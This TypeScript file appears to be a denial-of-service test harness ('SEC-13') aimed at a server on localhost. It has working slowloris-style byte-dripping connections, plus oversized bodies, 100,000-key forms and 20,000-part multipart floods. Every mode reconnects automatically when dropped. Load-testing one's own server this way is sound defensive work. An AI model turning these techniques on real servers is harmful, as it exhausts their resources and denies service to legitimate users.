import { connect } from 'node:net'

/**
 * SEC-13: somebody who wishes a server ill, in a process of its own, until it is killed.
 * node attacker.ts PORT slow|large|keys|parts COOKIE
 */
const [port = '', way = '', cookie = ''] = process.argv.slice(2)

function open(head: string, then: (socket: ReturnType<typeof connect>) => void): void {
  const socket = connect(Number(port), '127.0.0.1')
  let timer: NodeJS.Timeout | undefined
  socket.once('connect', () => {
    socket.write(head)
    then(socket)
    timer = setTimeout(() => socket.destroy(), 20_000)
  })
  socket.on('error', () => undefined)
  socket.on('data', () => socket.destroy())
  // Thrown out, it comes again.
  socket.once('close', () => {
    clearTimeout(timer)
    setTimeout(() => open(head, then), 20)
  })
}

const head = (path: string, type: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nHost: localhost:${port}\r\nSec-Fetch-Site: same-origin\r\nCookie: sid=${cookie}; __Host-sid=${cookie}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`
const encoded = 'application/x-www-form-urlencoded'
const parts = 'multipart/form-data; boundary=b'

if (way === 'slow')
  // Half begin a header and half a body, and go on with a byte now and then.
  for (let n = 0; n < 200; n += 1)
    open(n % 2 ? head('/sign-in', encoded, 100_000) : `GET /sign-in HTTP/1.1\r\nX-Long: `, (socket) => {
      const drip = setInterval(() => socket.write('a'), 100)
      socket.once('close', () => clearInterval(drip))
    })
else {
  const keys = Array.from({ length: 100_000 }, (_, n) => `k${n}=v`).join('&')
  const many = `${Array.from({ length: 20_000 }, (_, n) => `--b\r\nContent-Disposition: form-data; name="f${n}"\r\n\r\nx\r\n`).join('')}--b--\r\n`
  const large = Buffer.alloc(10 * 1024 * 1024, 'a')
  const forms: Record<string, () => [string, Buffer | string]> = {
    large: () => [head('/sign-in', encoded, large.length), large],
    keys: () => [head('/sign-in', encoded, keys.length), keys],
    parts: () => [head('/matters', parts, many.length), many],
  }
  for (let n = 0; n < 2; n += 1) {
    const [top, body] = forms[way]!()
    open(top, (socket) => socket.write(body))
  }
}
